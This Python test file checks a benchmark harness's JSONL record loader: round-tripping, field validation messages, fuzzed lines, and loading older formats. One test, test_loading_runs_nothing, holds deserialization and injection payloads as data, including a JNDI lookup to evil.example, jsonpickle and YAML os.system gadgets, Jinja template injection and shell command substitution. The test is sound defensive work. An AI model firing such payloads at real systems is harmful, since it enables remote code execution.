"""Reading one line: what was written comes back, and nothing else passes for a record."""

from __future__ import annotations

import copy
import io
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from harness.loading import read_records
from harness.printable import is_printable
from harness.records import FORMAT, Record

from .building import FIXTURES, json_values, line, records

GOOD = [
    json.loads(text)
    for version in ("format_1", "format_2", "format_3")
    for text in (FIXTURES / version / "run" / "records.jsonl").read_text().splitlines()
]


@given(records)
def test_a_record_survives_the_round_trip(record: Record) -> None:
    text = json.dumps(record.to_json(), allow_nan=False)
    assert "\n" not in text
    back = Record.from_json(json.loads(text))
    assert back.to_json() == record.to_json()
    assert back.trial == record.trial
    assert back.samples == record.samples


@given(json_values)
def test_any_other_json_is_refused(value: Any) -> None:
    with pytest.raises(ValueError, match=r"record|format"):
        Record.from_json(value)


WRONG: list[tuple[dict[str, Any], str]] = [
    ({"format": "x"}, "format is missing or no version number"),
    ({"format": True}, "format is missing or no version number"),
    ({"format": 0}, "format is missing or no version number"),
    ({"format": FORMAT + 1}, f"format {FORMAT + 1} is newer than this program reads .* update bakeoff"),
    ({"format": 10**100}, "format of many digits is newer"),
    ({"instrument": "scales"}, "instrument the text 'scales' is none of time, memory, energy, probe"),
    ({"instrument": ["time"]}, "instrument a list of 1 is none of"),
    ({"status": "splendid"}, "status the text 'splendid' is none of ok"),
    ({"stopped": "tired"}, "stopped the text 'tired' is none of nothing, precise"),
    ({"suite": ""}, "suite is empty"),
    ({"suite": 3}, "suite is 3, must be a name"),
    ({"suite": "x" * 1000}, "suite is a name of over 250 characters"),
    ({"threads": 0}, "threads is 0, must be an integer from 1"),
    ({"threads": True}, "threads is true, must be an integer"),
    ({"threads": 1.0}, "threads is 1.0, must be an integer"),
    ({"threads": 10**400}, "threads is an integer of 1329 bits"),
    ({"round": -1}, "round is -1"),
    ({"seed": None}, "seed is null"),
    ({"case": [1]}, "case is a list of 1, must be an object"),
    ({"case": {"n": [1]}}, "case.n is a list of 1, must be a text, a number, true or false"),
    ({"case": {"n": float("nan")}}, "case.n is NaN"),
    ({"case": {"a\x1b": 1, "a\\x1b": 2}}, "two names that are both shown as"),
    ({"samples": [1]}, r"samples\[0\] is 1, must be an object"),
    ({"samples": "none"}, "samples is the text 'none', must be a list"),
    ({"samples": [{"block": 0}]}, r"samples\[0\].iterations is missing"),
    ({"errors": {"out": "1.5"}}, "errors.out is the text '1.5', must be a number"),
    ({"setup_ns": {"load": -1}}, "setup_ns.load is -1"),
    ({"calibration": {"x": float("inf")}}, "calibration.x is Infinity, must be a finite number"),
    ({"started_at": "now"}, "started_at is the text 'now'"),
    ({"flags": {"a": 1}}, "flags is an object of 1 names"),
    ({"reason": None}, "reason is null"),
]


@pytest.mark.parametrize(("changes", "message"), WRONG)
def test_a_misfit_names_the_field_the_value_and_what_is_right(changes: dict[str, Any], message: str) -> None:
    with pytest.raises(ValueError, match=message):
        Record.from_json(json.loads(line()) | changes)


@pytest.mark.parametrize(
    ("value", "message"),
    [
        (float("nan"), "is NaN, must be a finite number"),
        (float("-inf"), "is -Infinity, must be a finite number"),
        ("nan", "must be a number"),
        (-1.0, "must be at least 0"),
        (1e300, r"is 1e\+300, must be 0 or of a size from 1e-30 to 1e\+30"),
        (5e-324, r"is 5e-324, must be 0 or of a size"),
        (10**400, "must be a number"),
        (None, "is null"),
    ],
)
def test_a_duration_is_a_finite_number(value: object, message: str) -> None:
    data = json.loads(line())
    data["samples"][0]["duration_ns"]["call"] = value
    with pytest.raises(ValueError, match=rf"samples\[0\].duration_ns.call {message}|{message}"):
        Record.from_json(data)


def test_errors_may_be_infinite_in_either_spelling() -> None:
    """``Infinity`` is how a record of an early version may have it; the text is how it is written."""
    read = Record.from_json(json.loads(line(errors={"a": float("inf"), "b": "inf", "c": "nan"})))
    assert read.errors["a"] == read.errors["b"] == float("inf")
    assert read.errors["c"] != read.errors["c"]
    assert json.loads(json.dumps(read.to_json(), allow_nan=False))["errors"] == {"a": "inf", "b": "inf", "c": "nan"}


def test_every_field_is_looked_at() -> None:
    """With any one field replaced by an object that fits nowhere, the line is refused."""
    good = json.loads(line())
    unread = []
    for name in good:
        try:
            Record.from_json(good | {name: {"": [{}]}})
        except ValueError:
            continue
        unread.append(name)
    assert unread == []


def test_loading_runs_nothing(tmp_path: Any) -> None:
    """Whatever other formats run on loading stays a text."""
    tricks = {
        "py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["touch owned"]}],
        "__class__": "subprocess.Popen",
        "__reduce__": ["os.system", ["touch owned"]],
        "$type": "System.Diagnostics.Process",
        "!!python/object/apply:os.system": ["touch owned"],
    }
    text = line(
        reason="${jndi:ldap://evil.example/a} {{ cycler.__init__.__globals__.os.system('touch x') }} $(touch x)",
        origin="!!python/object/apply:os.system ['touch owned']",
        **tricks,
    )
    before = set(__import__("sys").modules)
    (read,), warnings = read_records(io.BytesIO(text.encode()))
    assert warnings == ()
    assert read.reason.startswith("${jndi")
    assert vars(read).keys() == vars(Record.from_json(json.loads(line()))).keys()
    assert set(__import__("sys").modules) == before


def places(value: Any) -> list[tuple[Any, ...]]:
    """The paths to all parts of a JSON value."""
    found: list[tuple[Any, ...]] = [()]
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, part in items:
        found += [(key, *rest) for rest in places(part)]
    return found


@st.composite
def mutated(draw: st.DrawFn) -> bytes:
    """A good line with a part replaced or missing, or with some of its bytes changed."""
    data = copy.deepcopy(draw(st.sampled_from(GOOD)))
    if draw(st.booleans()):
        *path, last = draw(st.sampled_from(places(data)[1:]))
        owner = data
        for step in path:
            owner = owner[step]
        if draw(st.booleans()):
            owner[last] = draw(json_values)
        else:
            del owner[last]
        return json.dumps(data).encode()
    text = bytearray(json.dumps(data).encode())
    for place in draw(st.lists(st.integers(0, len(text) - 1), min_size=1, max_size=5)):
        text[place] = draw(st.sampled_from(b'"\\{}[]:,0-\x00\xff\x1beN'))
    return bytes(text).replace(b"\n", b" ")


@given(mutated())
def test_one_mutated_line_costs_at_most_itself(text: bytes) -> None:
    """It is a record or a warning that names it, and its neighbours load."""
    good = [line(1000).encode(), line(1001).encode()]
    read, warnings = read_records(io.BytesIO(b"\n".join([good[0], text, good[1]])))
    assert [read[0].trial.round, read[-1].trial.round] == [1000, 1001]
    assert len(read) + len(warnings) == 3
    assert all(warning.startswith("records.jsonl:2: ") and is_printable(warning) for warning in warnings)
    for record in read:
        assert Record.from_json(json.loads(json.dumps(record.to_json()))).trial == record.trial


@given(st.binary(max_size=200))
def test_any_bytes_give_records_or_warnings(data: bytes) -> None:
    read, warnings = read_records(io.BytesIO(data))
    assert read == ()
    assert len(warnings) == sum(bool(part.strip()) for part in data.split(b"\n")) or data.startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("version", [1, 2, 3])
def test_older_formats_and_the_present_one_load(version: int) -> None:
    with (FIXTURES / f"format_{version}" / "run" / "records.jsonl").open("rb") as file:
        read, warnings = read_records(file)
    assert warnings == ()
    assert {data["format"] for data in GOOD} == set(range(1, FORMAT + 1))
    timed = next(record for record in read if record.trial.instrument == "time" and record.status == "ok")
    assert timed.measured
    assert all(sample.readings == {} for sample in timed.samples)
    assert bool(timed.stopped) == (timed.started_at is not None) == (version > 1)
    assert any(record.isolated for record in read) == (version > 1)
    assert bool(timed.fingerprint) == bool(timed.batch) == (version > 2)
